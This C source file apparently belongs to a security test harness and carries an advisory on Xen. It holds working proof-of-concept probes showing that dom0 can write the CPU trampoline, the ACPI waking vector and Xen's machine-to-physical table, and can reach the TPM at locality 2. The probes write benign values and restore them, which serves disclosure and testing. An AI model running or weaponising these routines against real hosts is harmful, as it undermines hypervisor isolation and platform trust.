/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Advisory: memory that Xen and the firmware execute or trust
 *
 * Claim:  dom0 writes the code with which Xen starts processors, the address
 * at which the firmware resumes the host, and Xen's table of machine frames;
 * and uses the TPM at the hypervisor's locality. Method: a mapping of the
 * frame (of DOMID_IO, DOMID_XEN, or /dev/mem); a byte that does no harm is
 * written, read back by a second mapping, and put back. Stock:  nobody keeps
 * these frames from dom0.
 */
#include <endian.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mman.h>
#include <unistd.h>

#include "../attack.h"

#define LOW_FRAMES 0xa0
#define WINDOW (64ul << 30)
#define TPM_LOCALITY_2 0xfed42000ul
#define TPM_DID_VID 0xf00
#define FADT "/sys/firmware/acpi/tables/FACP"
#define FADT_FACS 36   /* offset of its address */
#define FACS_VECTOR 12 /* the waking vector */
#define FACS_RESERVED 40

/* QEMU, docs/specs/fw_cfg.rst: big-endian {control, length, address}. */
#define FW_CFG_DMA 0x514
#define FW_CFG_READ 2u
#define FW_CFG_SELECT 8u
#define FW_CFG_SIGNATURE 0u /* "QEMU" */

/* mov %cs,%ax; mov %ax,%ds; movb $0xa5, cpu_started; cld; cli */
static unsigned int cpu_started(const uint8_t *page)
{
    static const uint8_t head[] = {0x8c, 0xc8, 0x8e, 0xd8, 0xc6, 0x06};
    static const uint8_t tail[] = {0xa5, 0xfc, 0xfa};

    if ( memcmp(page, head, sizeof(head)) ||
         memcmp(page + 8, tail, sizeof(tail)) )
        return 0;
    return page[6] | page[7] << 8;
}

struct place
{
    unsigned long frame;
    uint32_t domid;
    unsigned int offset;
    uint8_t value;
};

/*
 * A PVH dom0 maps frames of DOMID_IO as a device's registers, at an address
 * where it has nothing, and that by /dev/mem.
 */
static void *map_as_device(unsigned long frame)
{
    int mem = open("/dev/mem", O_RDWR | O_SYNC);
    void *page;

    if ( xc_domain_memory_mapping(xch, 0, WINDOW / PAGE, frame, 1, 1) )
        page = MAP_FAILED;
    else
        page =
            mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, mem, WINDOW);
    close(mem);
    return page == MAP_FAILED ? NULL : page;
}

static void *map_place(const struct place *p, bool write)
{
    return pvh_dom0 && p->domid == DOMID_IO
               ? map_as_device(p->frame)
               : map_page(p->domid, p->frame, write);
}

static void unmap_place(const struct place *p, void *page)
{
    if ( !page )
        return;
    munmap(page, PAGE);
    if ( pvh_dom0 && p->domid == DOMID_IO )
        xc_domain_memory_mapping(xch, 0, WINDOW / PAGE, p->frame, 1, 0);
}

static int write_place(void *arg)
{
    struct place *p = arg;
    volatile uint8_t *page = map_place(p, true);

    if ( !page )
        return 1;
    page[p->offset] = p->value;
    unmap_place(p, (void *)page);
    return 0;
}

static int read_place(struct place *p)
{
    uint8_t *page = map_place(p, false);
    int value = page ? page[p->offset] : -1;

    unmap_place(p, page);
    return value;
}

static bool writable(struct place *p)
{
    int old = read_place(p);
    bool changed;

    if ( old < 0 )
        return false;
    p->value = old ^ 0x5a;
    attempt(write_place, p);
    changed = read_place(p) == p->value;
    p->value = old;
    if ( changed )
        attempt(write_place, p);
    return changed;
}

static enum verdict trampoline_write(struct victim *v)
{
    struct place p = {.domid = DOMID_IO};
    unsigned int mapped = 0;

    (void)v;
    for ( p.frame = 1; p.frame < LOW_FRAMES && !p.offset; p.frame++ )
    {
        uint8_t *page = map_place(&p, false);

        if ( page )
        {
            mapped++;
            p.offset = cpu_started(page);
            unmap_place(&p, page);
        }
    }
    p.frame--;
    if ( !mapped )
        return verdict(ERROR, "no low frame can be mapped");
    if ( !p.offset || p.offset >= PAGE )
        return verdict(FAILURE, "not found in %u low frames", mapped);
    return verdict(writable(&p) ? SUCCESS : FAILURE,
                   "the trampoline is in frame %#lx", p.frame);
}
ATTACK(trampoline_write, .needs = NO_VICTIM);

/* In a child, as what is not allowed may end it: the 32 bits at PHYS. */
struct access
{
    unsigned long phys;
    bool write;
    uint32_t value;
};

static int access_memory(void *arg)
{
    struct access *a = arg;
    int mem = open("/dev/mem", O_RDWR | O_SYNC);
    volatile uint8_t *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
                                  MAP_SHARED, mem, a->phys & ~(PAGE - 1));

    if ( mem < 0 || page == MAP_FAILED )
        return 1;
    if ( a->write )
        *(volatile uint32_t *)(page + a->phys % PAGE) = a->value;
    else
        a->value = *(volatile uint32_t *)(page + a->phys % PAGE);
    return 0;
}

static bool do_access(unsigned long phys, bool write, uint32_t *value)
{
    struct access *a = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
                            MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    bool ok;

    *a = (struct access){phys, write, *value};
    ok = !in_child(access_memory, a);
    *value = a->value;
    munmap(a, PAGE);
    return ok;
}

static unsigned long facs(void)
{
    uint32_t address = 0;
    FILE *f = fopen(FADT, "r");

    if ( f )
    {
        if ( fseek(f, FADT_FACS, SEEK_SET) ||
             fread(&address, sizeof(address), 1, f) != 1 )
            address = 0;
        fclose(f);
    }
    return address;
}

/* One word of it, which is written, or read. */
static bool facs_word(unsigned long at, bool write, uint32_t *value)
{
    volatile uint32_t *word;
    uint8_t *page;

    if ( !pvh_dom0 )
        return do_access(at, write, value);
    page = map_as_device(at / PAGE);
    if ( !page )
        return false;
    word = (void *)(page + at % PAGE);
    if ( write )
        *word = *value;
    else
        *value = *word;
    munmap(page, PAGE);
    xc_domain_memory_mapping(xch, 0, WINDOW / PAGE, at / PAGE, 1, 0);
    return true;
}

/* QEMU's device for firmware carries out what is described at an address. */
static int fw_cfg(void *at)
{
    uint64_t address = *(unsigned long *)at;

    if ( ioperm(FW_CFG_DMA, 8, 1) )
        return 1;
    outl(htobe32(address >> 32), FW_CFG_DMA);
    outl(htobe32(address), FW_CFG_DMA + 4);
    return 0;
}

/*
 * What dom0 maps may be a copy.  So a device that reads and writes the real
 * page, as the firmware does, is told in the page itself to write to it.
 */
static enum verdict facs_write(struct victim *v)
{
    unsigned long base = facs(), order = base + FACS_RESERVED, i;
    uint32_t vector = 0, now = 0, old[4] = {0}, words[4] = {
        htobe32(FW_CFG_SIGNATURE << 16 | FW_CFG_SELECT | FW_CFG_READ),
        htobe32(sizeof(vector)),
        0,
        htobe32(base + FACS_VECTOR),
    };
    bool ok;

    (void)v;
    if ( !base )
        return verdict(UNPROVEN, "no FACS");
    ok = facs_word(base + FACS_VECTOR, false, &vector);
    for ( i = 0; i < 4 && ok; i++ )
        ok = facs_word(order + 4 * i, false, &old[i]) &&
             facs_word(order + 4 * i, true, &words[i]);
    if ( !ok )
        return verdict(FAILURE, "not mapped");
    in_child(fw_cfg, &order);
    facs_word(base + FACS_VECTOR, false, &now);
    facs_word(base + FACS_VECTOR, true, &vector);
    for ( i = 0; i < 4; i++ )
        facs_word(order + 4 * i, true, &old[i]);
    return verdict(memcmp(&now, "QEMU", 4) ? FAILURE : SUCCESS,
                   "waking vector at %#lx: %#x, %#x", base + FACS_VECTOR,
                   vector, now);
}
ATTACK(facs_write, .needs = NO_VICTIM);

static enum verdict tpm_locality(struct victim *v)
{
    uint32_t id = 0;

    (void)v;
    if ( !do_access(TPM_LOCALITY_2 + TPM_DID_VID, false, &id) ||
         id == 0xffffffff )
        id = 0;
    return verdict(id ? SUCCESS : FAILURE, "id %#x at locality 2", id);
}
ATTACK(tpm_locality, .needs = NO_VICTIM);

/* The list that XENMEM_machphys_mfn_list gives; the first 2 MiB are enough. */
static enum verdict m2p_write(struct victim *v)
{
    xen_pfn_t *first = xen_buffer(sizeof(*first));
    struct xen_machphys_mfn_list op = {.max_extents = 1};
    struct place p = {.domid = DOMID_XEN, .offset = 8 * 64 + 7};

    (void)v;
    set_xen_guest_handle_raw(op.extent_start, first);
    if ( memory_op(XENMEM_machphys_mfn_list, &op, sizeof(op)) )
        return verdict(FAILURE, "no list of its frames");
    p.frame = *first;
    return verdict(writable(&p) ? SUCCESS : FAILURE,
                   "the table's first frame is %#lx", p.frame);
}
ATTACK(m2p_write, .needs = NO_VICTIM, .pvh_only = true);
